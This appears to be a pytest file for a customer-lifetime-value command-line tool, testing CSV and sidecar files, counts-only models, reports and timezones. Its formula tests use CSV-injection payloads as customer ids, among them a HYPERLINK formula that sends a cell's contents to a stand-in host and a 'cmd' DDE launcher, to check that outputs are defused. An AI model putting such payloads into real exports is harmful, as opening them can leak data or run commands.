"""The command line's files through its real entry points: the RFM table (a plain CSV with a
``.json`` sidecar, written together), and a pipeline of purchase counts only (``--spend none``:
a model directory without a spend model, scores and a report without value).

The steps run as subprocesses (``python -m clvmodels`` and the installed script), as a
scheduler runs them; the failure cases that need a patched function run ``main()`` in-process.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import importlib.util
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import clvmodels
from clvmodels.__main__ import main
from clvmodels.files import tables
from clvmodels.files.model_directory import ModelDirectory
from clvmodels.presentation import transactions_used

MODULE = [sys.executable, "-m", "clvmodels"]
SCRIPT = Path(sys.executable).with_name("clvmodels")
CALIBRATION_END = "1997-09-30"
WEEKLY_RATE = 1.10 ** (7 / 365.25) - 1  # --discount-rate 0.1 a year, in weeks
# A float read back from CSV may differ from the written one by an ulp; predictions are smooth
# in their inputs, so that moves nothing beyond 1e-12 relative.
CSV_RTOL = 1e-12


def cli(*args, command=None):
    """Run the command line in a subprocess and return the completed process."""
    return subprocess.run([*(command or MODULE), *map(str, args)], capture_output=True,
                          text=True, timeout=300)


def run_main(*args):
    """``main()`` in-process: the exit code, stdout and stderr."""
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = main(list(map(str, args)))
    return code, stdout.getvalue(), stderr.getvalue()


def one_line_error(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert lines and lines[-1].startswith("clvmodels: error: "), stderr
    assert "Traceback" not in stderr
    return lines[-1]


@pytest.fixture(scope="module")
def workdir(tmp_path_factory):
    directory = tmp_path_factory.mktemp("cli_files")
    log = clvmodels.load_cdnow_transactions()[["customer_id", "date", "amount"]]
    log.to_csv(directory / "transactions.csv", index=False)
    log[["customer_id", "date"]].to_csv(directory / "counts.csv", index=False)  # no amounts
    return directory


@pytest.fixture(scope="module")
def rfm_csv(workdir):
    """``summarize`` through the installed script (else the module)."""
    command = [str(SCRIPT)] if SCRIPT.exists() else None
    result = cli("summarize", workdir / "transactions.csv", "-o", workdir / "rfm.csv",
                 "--observation-end", CALIBRATION_END, command=command)
    assert result.returncode == 0, result.stderr
    return workdir / "rfm.csv"


# ----------------------------------------------------------------------------- the RFM file
def test_rfm_csv_is_a_plain_table_with_a_json_sidecar(rfm_csv):
    plain = pd.read_csv(rfm_csv)  # what any CSV reader sees
    assert list(plain.columns) == ["customer_id", "frequency", "recency", "T", "monetary_value"]
    assert len(plain) == 2357 and plain["customer_id"].is_unique
    rfm = tables.read_rfm(rfm_csv)
    np.testing.assert_array_equal(plain[["frequency", "recency", "T", "monetary_value"]],
                                  rfm.to_numpy())
    sidecar = json.loads(rfm_csv.with_name("rfm.csv.json").read_text())
    assert sidecar["format"] == "clvmodels.rfm" and sidecar["time_unit"] == "W"
    assert sidecar["observation_end"] == "1997-09-30T00:00:00"
    assert (sidecar["n_transactions"], sidecar["n_transactions_excluded"]) == (4960, 1959)
    assert sidecar["table"] == {"file": "rfm.csv", "sha256": tables.sha256(rfm_csv)}
    assert "table" not in rfm.attrs["metadata"]  # the sidecar's own record stays in it


def test_parquet_keeps_its_metadata_inside_and_scores_stay_plain(rfm_csv, tmp_path):
    pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    assert main(["summarize", str(rfm_csv.with_name("transactions.csv")), "-o",
                 str(tmp_path / "rfm.parquet"), "--observation-end", CALIBRATION_END,
                 "-q"]) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rfm.parquet"]  # no sidecar
    metadata = json.loads(pq.read_schema(tmp_path / "rfm.parquet").metadata[b"clvmodels"])
    assert metadata["time_unit"] == "W" and metadata["n_transactions"] == 4960
    assert list(pd.read_parquet(tmp_path / "rfm.parquet").columns) == [
        "customer_id", "frequency", "recency", "T", "monetary_value"]
    assert main(["fit", str(rfm_csv), "-o", str(tmp_path / "model"), "-q"]) == 0
    assert main(["predict", str(tmp_path / "model"), str(rfm_csv), "--horizon", "52", "-o",
                 str(tmp_path / "scores.csv"), "-q"]) == 0
    assert not (tmp_path / "scores.csv.json").exists()
    assert (tmp_path / "scores.csv").read_text().startswith("customer_id,probability_alive,")


def test_rfm_file_of_an_earlier_version_still_reads(rfm_csv, tmp_path):
    """Before the sidecar, the metadata was the CSV file's first line, ``# clvmodels {json}``."""
    metadata = dict(tables.read_rfm(rfm_csv).attrs["metadata"])
    del metadata["n_transactions"]  # not recorded then
    legacy = tmp_path / "old_rfm.csv"
    legacy.write_text(f"# clvmodels {json.dumps(metadata)}\n" + rfm_csv.read_text())
    result = cli("fit", legacy, "--spend", "none", "-o", tmp_path / "model", "-q")
    assert result.returncode == 0, result.stderr  # no --time-unit needed: the line has it
    old, new = tables.read_rfm(legacy), tables.read_rfm(rfm_csv)
    pd.testing.assert_frame_equal(old, new)
    assert {k: v for k, v in old.attrs.items() if k != "metadata"} == {
        k: v for k, v in new.attrs.items() if k not in ("metadata", "n_transactions")}
    # The transactions used, from the rows read and those left out.
    assert transactions_used(old.attrs["metadata"]) == (
        "4,960 transactions (1,959 after the observation end 1997-09-30 left out)")


def test_table_changed_without_its_sidecar_is_refused(rfm_csv, tmp_path):
    for name in ("rfm.csv", "rfm.csv.json"):
        shutil.copy(rfm_csv.with_name(name), tmp_path / name)
    edited = pd.read_csv(tmp_path / "rfm.csv").iloc[:-1]  # e.g. a row deleted in a spreadsheet
    edited.to_csv(tmp_path / "rfm.csv", index=False)
    result = cli("fit", tmp_path / "rfm.csv", "-o", tmp_path / "model")
    assert result.returncode == 4, result.stderr
    error = one_line_error(result.stderr)
    assert f"RFM file {tmp_path / 'rfm.csv'} does not match its metadata file" in error
    assert "delete rfm.csv.json to read the table without metadata" in error
    os.remove(tmp_path / "rfm.csv.json")  # the way out the message names
    result = cli("fit", tmp_path / "rfm.csv", "--time-unit", "W", "-o", tmp_path / "model", "-q")
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("failing", ["sidecar written", "sidecar renamed"])
def test_a_failed_write_leaves_both_old_files(rfm_csv, tmp_path, monkeypatch, failing):
    """The table and its sidecar are replaced together: a failure while writing the sidecar,
    or in renaming it after the table was renamed, leaves the old pair (exit 6)."""
    for name in ("rfm.csv", "rfm.csv.json"):
        shutil.copy(rfm_csv.with_name(name), tmp_path / name)
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
    if failing == "sidecar written":
        original = Path.write_text

        def write_text(self, *args, **kwargs):
            if self.name.startswith(".rfm.csv.json."):
                raise OSError(errno.ENOSPC, "No space left on device")
            return original(self, *args, **kwargs)

        monkeypatch.setattr(Path, "write_text", write_text)
    else:
        replace = os.replace

        def fail_on_sidecar(source, target):
            if str(target).endswith("rfm.csv.json"):
                raise OSError(errno.EIO, "Input/output error")
            replace(source, target)

        monkeypatch.setattr(os, "replace", fail_on_sidecar)
    code, _, stderr = run_main("summarize", rfm_csv.with_name("transactions.csv"), "-o",
                               tmp_path / "rfm.csv", "--observation-end", "1997-06-30", "-q")
    assert code == 6, stderr
    assert f"cannot write {tmp_path / 'rfm.csv'} and {tmp_path / 'rfm.csv.json'}" in stderr
    # The very same two files, and no temporary or backup file left beside them.
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


def test_a_new_pair_replaces_the_old_one(rfm_csv, tmp_path):
    for name in ("rfm.csv", "rfm.csv.json"):
        shutil.copy(rfm_csv.with_name(name), tmp_path / name)
    assert main(["summarize", str(rfm_csv.with_name("transactions.csv")), "-o",
                 str(tmp_path / "rfm.csv"), "--observation-end", "1997-06-30", "-q"]) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rfm.csv", "rfm.csv.json"]
    assert tables.read_rfm(tmp_path / "rfm.csv").attrs["observation_end"] == (
        "1997-06-30T00:00:00")


# ----------------------------------------------------------------------------- counts only
@pytest.fixture(scope="module")
def counts_chain(workdir):
    """summarize --no-amount -> fit (refused, then --spend none) -> predict -> report."""
    d = workdir
    results = {
        "summarize": cli("summarize", d / "counts.csv", "--no-amount", "-o",
                         d / "counts_rfm.csv", "--observation-end", CALIBRATION_END),
        "fit with spend": cli("fit", d / "counts_rfm.csv", "-o", d / "never"),
        "fit": cli("fit", d / "counts_rfm.csv", "--spend", "none", "-o", d / "counts_model"),
        "predict": cli("predict", d / "counts_model", d / "counts_rfm.csv", "--horizon", 52,
                       "--discount-rate", 0.1, "--margin", 0.3, "-o", d / "counts_scores.csv"),
        "report": cli("report", d / "counts_model", d / "counts_rfm.csv", "--horizon", 52,
                      "--discount-rate", 0.1, "--transactions", d / "counts.csv",
                      "--holdout", "1998-06-30", "-o", d / "counts.html"),
    }
    for name, result in results.items():
        assert result.returncode == (4 if name == "fit with spend" else 0), (name, result.stderr)
    rfm = tables.read_rfm(d / "counts_rfm.csv")
    return d, results, rfm, clvmodels.BetaGeoModel().fit(rfm)


def test_counts_only_fit_writes_no_spend_model(counts_chain):
    d, results, _, api_model = counts_chain
    error = one_line_error(results["fit with spend"].stderr)
    assert ("lacks column(s) ['monetary_value'] (summarize with --amount-col naming the spend "
            "column, or fit with --spend none for purchase counts only)") in error
    assert not (d / "never").exists()
    assert sorted(p.name for p in (d / "counts_model").iterdir()) == [
        "manifest.json", "transaction_model.json"]
    manifest = json.loads((d / "counts_model" / "manifest.json").read_text())
    assert manifest["spend_model"] is None and manifest["fit"]["spend"] == "none"
    assert manifest["format_version"] == 2  # readers of format 1 expect a spend model
    models = ModelDirectory.load(d / "counts_model")
    assert models.spend_model is None
    # The same RFM file and code as the API fit: the same estimates (1e-12 leaves room for a
    # different summation order).
    np.testing.assert_allclose(models.transaction_model.params_, api_model.params_, rtol=1e-12)
    assert "GammaGamma" not in results["fit"].stdout


def test_counts_only_predict_writes_purchases_without_value(counts_chain):
    d, results, rfm, model = counts_chain
    scores = pd.read_csv(d / "counts_scores.csv", index_col="customer_id")
    assert list(scores.columns) == ["probability_alive", "expected_purchases",
                                    "discounted_expected_purchases"]
    expected = pd.DataFrame({
        "probability_alive": model.probability_alive(rfm),
        "expected_purchases": model.expected_purchases(rfm, 52),
        "discounted_expected_purchases": model.discounted_expected_purchases(
            rfm, horizon=52, discount_rate=WEEKLY_RATE),
    })
    expected.index = expected.index.astype(int)
    pd.testing.assert_frame_equal(scores.sort_index(), expected.sort_index(), check_exact=False,
                                  rtol=CSV_RTOL, check_names=False)
    total = expected["expected_purchases"].sum()
    assert (f"Expected purchases, next 52 weeks: {total:,.0f} ({total / 2357:,.2f} per "
            "customer, 2,357 customers)") in results["predict"].stdout
    assert "$" not in results["predict"].stdout
    assert "note: the margin is not used: the models have no spend model" in (
        results["predict"].stderr)


def test_counts_only_report_shows_purchases_instead_of_equity(counts_chain):
    d, _, rfm, model = counts_chain
    text = (d / "counts.html").read_text()
    sections = re.findall(r'<section id="([a-z-]+)">', text)
    assert sections == ["headline", "top-customers", "diagnostics", "parameters", "settings"]
    assert "<title>Purchases report</title>" in text
    headline = text[text.index('<section id="headline">'):text.index('<section id="top-')]
    purchases = model.expected_purchases(rfm, 52)
    assert "<h2>Expected purchases</h2>" in headline
    assert f'<div class="value">{purchases.sum():,.0f}</div>' in headline
    assert f"{model.probability_alive(rfm).mean():.0%}" in headline
    top = text[text.index('<section id="top-customers">'):text.index('<section id="diagn')]
    assert "<h2>Top 20 customers by expected purchases</h2>" in top
    rows = re.findall(r'<tr><td class="text">([^<]+)</td>', top)
    ranked = purchases.sort_values(ascending=False, kind="stable")
    assert rows == list(ranked.index[:20])
    assert "$" not in text.replace(text[text.index("<style>"):text.index("</style>")], "")
    for figure in ("equity-concentration", "clv-distribution"):
        assert f'id="figure-{figure}"' not in text
    for figure in ("period-transactions", "tracking", "calibration-vs-holdout"):
        assert f'id="figure-{figure}"' in text
    parameters = text[text.index('<section id="parameters">'):text.index('<section id="sett')]
    assert parameters.count("<h3>") == 1 and "BG/NBD: purchase counts" in parameters
    assert "none (fitted with --spend none)" in text


def test_run_config_with_spend_none_needs_no_amount_column(workdir, tmp_path):
    config = tmp_path / "job.toml"
    config.write_text(f"""
[data]
transactions = "{workdir / 'counts.csv'}"
observation_end = "{CALIBRATION_END}"

[model]
spend = "none"

[predict]
horizon = 52
""")
    result = cli("run", config)
    assert result.returncode == 0, result.stderr
    out = tmp_path
    assert list(pd.read_csv(out / "rfm.csv").columns) == ["customer_id", "frequency",
                                                         "recency", "T"]
    assert list(pd.read_csv(out / "scores.csv").columns) == [
        "customer_id", "probability_alive", "expected_purchases",
        "discounted_expected_purchases"]
    assert "<h2>Expected purchases</h2>" in (out / "report.html").read_text()
    assert "Expected purchases, next 52 weeks: " in result.stdout


def test_loading_checks_a_directory_without_spend_model(counts_chain, rfm_csv, tmp_path):
    d, _, _, _ = counts_chain
    predict = ["predict", tmp_path / "model", d / "counts_rfm.csv", "--horizon", 52, "-o",
               tmp_path / "s.csv"]
    shutil.copytree(d / "counts_model", tmp_path / "model")
    (tmp_path / "model" / "spend_model.json").write_text("{}")  # a stray spend model
    code, _, stderr = run_main(*predict)
    assert code == 4
    assert "holds spend_model.json but its manifest.json lists no spend model" in (
        one_line_error(stderr))
    (tmp_path / "model" / "spend_model.json").unlink()
    manifest_path = tmp_path / "model" / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["fit"]["spend"] = "gamma-gamma"  # contradicts the missing spend model
    manifest_path.write_text(json.dumps(manifest))
    code, _, stderr = run_main(*predict)
    assert code == 4
    assert "lists no spend model but says the models were fitted with --spend gamma-gamma" in (
        one_line_error(stderr))
    # A directory with a spend model still scores an RFM table that lacks monetary_value? No:
    # its CLV needs the spend, and the message says how to get it.
    assert main(["fit", str(rfm_csv), "-o", str(tmp_path / "full"), "-q"]) == 0
    code, _, stderr = run_main("predict", tmp_path / "full", d / "counts_rfm.csv", "--horizon",
                               52, "-o", tmp_path / "s.csv")
    assert code == 4 and "lacks column(s) ['monetary_value']" in one_line_error(stderr)


def test_bayesian_counts_only_scores_carry_intervals(counts_chain, tmp_path):
    pytest.importorskip("pymc", reason="the Bayesian extra is not installed")
    d, _, _, _ = counts_chain
    code, _, stderr = run_main("fit", d / "counts_rfm.csv", "--spend", "none", "--bayesian",
                               "--method", "map", "--draws", 100, "--chains", 1, "--seed", 3,
                               "-o", tmp_path / "model", "-q")
    assert code == 0, stderr
    code, stdout, stderr = run_main("predict", tmp_path / "model", d / "counts_rfm.csv",
                                    "--horizon", 52, "--level", 0.8, "-o", tmp_path / "s.csv")
    assert code == 0, stderr
    scores = pd.read_csv(tmp_path / "s.csv", index_col="customer_id")
    names = ["probability_alive", "expected_purchases", "discounted_expected_purchases"]
    assert list(scores.columns) == [f"{n}{s}" for n in names for s in ("", "_lower", "_upper")]
    for name in names:
        assert (scores[f"{name}_lower"] <= scores[name]).all()
        assert (scores[name] <= scores[f"{name}_upper"]).all()
    assert "Expected purchases, next 52 weeks: " in stdout


# ----------------------------------------------------------------------------- formulas
# Ids a spreadsheet would run (OWASP's CSV injection examples), and one already quoted. (A
# log with an id starting with a carriage return cannot be written with pandas' to_csv: it
# splits the row; test_tables_defuse_and_restore_every_formula_start covers that start.)
INJECTED = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3", "\tx", "'=already quoted"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def injected(workdir, tmp_path_factory):
    """summarize -> fit -> predict (a negative margin: negative CLVs) through the console
    script on a log whose first customers' ids, and whose id column's name, are formulas."""
    d = tmp_path_factory.mktemp("formulas")
    log = pd.read_csv(workdir / "transactions.csv", dtype={"customer_id": str})
    ids = dict(zip([str(i) for i in range(1, len(INJECTED) + 1)], INJECTED, strict=True))
    log["customer_id"] = log["customer_id"].map(lambda id_: ids.get(id_, id_))
    log.rename(columns={"customer_id": "@customer"}).to_csv(d / "log.csv", index=False)
    steps = [
        ["summarize", d / "log.csv", "--customer-col", "@customer", "-o", d / "rfm.csv",
         "--observation-end", CALIBRATION_END],
        ["fit", d / "rfm.csv", "-o", d / "model"],
        ["predict", d / "model", d / "rfm.csv", "--horizon", 52, "--margin", -0.3,
         "-o", d / "scores.csv"],
    ]
    if importlib.util.find_spec("pyarrow") is not None:
        steps.append(["summarize", d / "log.csv", "--customer-col", "@customer", "-o",
                      d / "rfm.parquet", "--observation-end", CALIBRATION_END])
    for step in steps:
        result = cli(*step, "-q")
        assert result.returncode == 0, (step, result.stderr)
    return d


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("name", ["rfm.csv", "scores.csv"])
def test_csv_outputs_defuse_formulas_but_not_negative_numbers(injected, name):
    rows = _cells(injected / name)
    header, body = rows[0], rows[1:]
    assert header[0] == "'@customer"
    for row in body:  # a cell a spreadsheet would run is a number, or it is not there
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)
    ids = [row[0] for row in body]
    for id_ in INJECTED:
        assert "'" + id_ in ids
    if name == "scores.csv":
        clv = [float(row[header.index("clv")]) for row in body]
        assert min(clv) < 0  # written as numbers, e.g. -1.5, not '-1.5
        assert not any(row[header.index("clv")].startswith("'") for row in body)


def test_clvmodels_reads_its_defused_rfm_file_back_exactly(injected):
    sidecar = json.loads((injected / "rfm.csv.json").read_text())
    assert sidecar["table"]["defused_formulas"] is True
    rfm = tables.read_rfm(injected / "rfm.csv")
    assert rfm.index.name == "@customer"
    assert set(INJECTED) <= set(rfm.index)
    if (injected / "rfm.parquet").exists():  # Parquet holds the ids exactly, undefused
        parquet = pd.read_parquet(injected / "rfm.parquet").set_index("@customer")
        assert set(INJECTED) <= set(parquet.index)
        pd.testing.assert_frame_equal(rfm.sort_index(), tables.read_rfm(
            injected / "rfm.parquet").sort_index(), check_exact=False, rtol=CSV_RTOL,
            check_index_type=False)


def test_tables_defuse_and_restore_every_formula_start(tmp_path):
    """Every start of OWASP's rule, a carriage return inside a cell (quoted, so the row stays
    whole) and a formula as a column name, written as CSV and read back exactly; in Parquet
    as they are."""
    ids = ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a\rb", "'=x", "''@x", "'a", "plain"]
    frame = pd.DataFrame({"=name": ["-x"] * len(ids), "value": -np.arange(len(ids)) - 0.5},
                         index=pd.Index(ids, name="customer_id"))
    metadata = {"format": "clvmodels.rfm", "customer_col": "customer_id"}
    tables.write_table(frame, tmp_path / "t.csv", metadata=metadata)
    rows = _cells(tmp_path / "t.csv")
    assert rows[0] == ["customer_id", "'=name", "value"]
    assert [row[0] for row in rows[1:]] == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx",
                                            "a\rb", "''=x", "'''@x", "'a", "plain"]
    assert all(row[2].startswith("-") and float(row[2]) < 0 for row in rows[1:])
    read, found = tables.read_table(tmp_path / "t.csv", role="RFM", text_id=True)
    pd.testing.assert_frame_equal(read.set_index("customer_id"), frame)
    assert found["customer_col"] == "customer_id"
    if importlib.util.find_spec("pyarrow") is not None:
        tables.write_table(frame, tmp_path / "t.parquet", metadata=metadata)
        pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "t.parquet")
                                      .set_index("customer_id"), frame)


def test_timezone_option_reads_a_daylight_saving_export(tmp_path):
    """A local-time export across a daylight-saving change (+01:00 and +02:00) is refused
    without a zone, the message naming --timezone; with --timezone (or [data] timezone) its
    dates are bucketed by that zone's calendar days, as rfm_summary(timezone=...) does."""
    log = pd.DataFrame({
        "customer_id": ["a", "a", "b", "b"],
        "date": ["2020-03-01T10:00:00+01:00", "2020-04-02T23:30:00+02:00",
                 "2020-03-20T08:00:00+01:00", "2020-03-30T00:30:00+02:00"],
        "amount": [10.0, 20.0, 5.0, 7.0],
    })
    log.to_csv(tmp_path / "log.csv", index=False)
    base = [sys.executable, "-m", "clvmodels", "summarize", str(tmp_path / "log.csv"),
            "-o", str(tmp_path / "rfm.csv"), "--time-unit", "D"]
    refused = subprocess.run(base, capture_output=True, text=True, timeout=120)
    assert refused.returncode == 4
    assert "--timezone" in refused.stderr.strip().splitlines()[-1]
    done = subprocess.run([*base, "--timezone", "Europe/Berlin"], capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    ours = pd.read_csv(tmp_path / "rfm.csv", index_col=0)
    expected = clvmodels.rfm_summary(log, amount_col="amount", time_unit="D",
                                     timezone="Europe/Berlin")
    np.testing.assert_array_equal(ours[["frequency", "recency", "T"]].to_numpy(),
                                  expected[["frequency", "recency", "T"]].to_numpy())
    assert json.loads((tmp_path / "rfm.csv.json").read_text())["transactions"][
        "timezone"] == "Europe/Berlin"
